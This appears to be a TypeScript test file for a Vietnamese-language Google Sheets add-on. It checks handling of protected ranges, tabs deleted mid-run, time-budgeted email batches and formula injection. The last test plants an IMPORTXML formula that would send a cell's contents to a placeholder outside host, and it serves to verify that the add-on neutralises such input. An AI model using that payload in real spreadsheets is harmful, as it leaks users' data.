/** Faults through the Apps Script fakes: protected ranges, tabs deleted mid-run, slow runs split across runs. */
import { TAB } from '../../src/core/workbook/contract';
import { createWorld, loadRawWorkbook } from '../fakes/environment';
import { loadBundle } from '../helpers/load-bundle';
import { buildWorkbook, cleanTabs, type PlanTabs, withCells } from '../helpers/workbook-builder';

const NOW = new Date('2024-12-23T02:00:00Z');

function setUp(tabs: PlanTabs = cleanTabs(), stepMs = 0) {
  const world = createWorld();
  loadRawWorkbook(world, buildWorkbook(tabs));
  return { world, app: loadBundle(world.globals, { now: NOW, stepMs }) };
}

test('a protected output tab: a clear Vietnamese message, input tabs untouched', () => {
  const { world, app } = setUp();
  world.spreadsheet.addSheet('Kiểm tra dữ liệu', [['cũ']]).protectedFromWrites = true;
  const before = world.spreadsheet.sheet(TAB.units).snapshot();
  app.validateData!();
  expect(world.ui.alerts.at(-1)!.message).toMatch(
    /^Không ghi được kết quả vì một tab hoặc vùng ô đang được bảo vệ/,
  );
  expect(world.spreadsheet.sheet(TAB.units).snapshot()).toEqual(before);
  expect(world.lock.holder).toBeNull();
});

test('a tab deleted between the read and the write: the user is told, nothing breaks', () => {
  const { world, app } = setUp(withCells(TAB.congresses, 0, { 'Tổng đại biểu': 1 }));
  // Someone deletes Đại hội right after it was read (the first write of the run is the findings tab).
  world.mail.beforeSend = () => {};
  const original = world.spreadsheet.insertSheet.bind(world.spreadsheet);
  world.spreadsheet.insertSheet = ((...args: unknown[]) => {
    world.spreadsheet.deleteSheetNamed(TAB.congresses);
    return original(...args);
  }) as typeof world.spreadsheet.insertSheet;
  app.validateData!();
  expect(world.ui.alerts.at(-1)!.message).toBe(
    'Một tab vừa bị xóa hoặc đổi tên trong lúc chức năng đang chạy. Dữ liệu không bị thay đổi; hãy chạy lại.',
  );
  expect(world.lock.holder).toBeNull();
});

test('a slow send stops within the time budget and the next run finishes the list', () => {
  const tabs = cleanTabs();
  const many: PlanTabs = {
    ...tabs,
    [TAB.recipients]: Array.from({ length: 12 }, (_, i) => ({
      'Họ tên': `Người ${i + 1}`,
      Email: `n${i + 1}@example.vn`,
      'Phạm vi': 'Tất cả',
      'Định kỳ': 'Hằng ngày',
    })),
  };
  // Each clock reading moves one minute on: the run must stop before 4,5 minutes have passed.
  const { world, app } = setUp(many, 60_000);
  world.ui.answers = ['YES'];
  app.sendReports!();
  const firstRun = world.mail.sent.length;
  expect(firstRun).toBeGreaterThan(0);
  expect(firstRun).toBeLessThan(12);
  const deferred = world.spreadsheet
    .sheet('Nhật ký gửi')
    .snapshot()
    .filter((row) => row[5] === 'Chờ lượt sau');
  expect(deferred).toHaveLength(12 - firstRun);
  expect(deferred[0]![7]).toBe('Hết thời gian của lượt chạy; sẽ gửi ở lượt sau.');
  for (let run = 0; run < 6 && world.mail.sent.length < 12; run++) {
    world.ui.answers = ['YES'];
    app.sendReports!();
  }
  expect(world.mail.sent.map((m) => m.to).sort()).toEqual(
    Array.from({ length: 12 }, (_, i) => `n${i + 1}@example.vn`).sort(),
  );
});

test('no cell the add-on writes becomes a formula, whatever the user typed', () => {
  const formula = '=IMPORTXML("http://x/?"&A1,"//a")';
  let tabs = withCells(TAB.units, 2, { 'Tên đơn vị': formula });
  tabs = withCells(TAB.congresses, 1, { 'Trạng thái': formula }, tabs);
  tabs = withCells(TAB.recipients, 0, { 'Họ tên': '+84 912 345 678' }, tabs);
  const { world, app } = setUp({ ...tabs, [TAB.budget]: [] });
  app.validateData!();
  app.generateReport!();
  app.suggestBudget!();
  world.ui.answers = ['YES'];
  app.sendReports!();
  for (const name of ['Kiểm tra dữ liệu', 'Báo cáo', 'Dự toán chi tiết', 'Nhật ký gửi', 'Dự toán']) {
    expect([name, [...world.spreadsheet.sheet(name).formulas]]).toEqual([name, []]);
  }
});
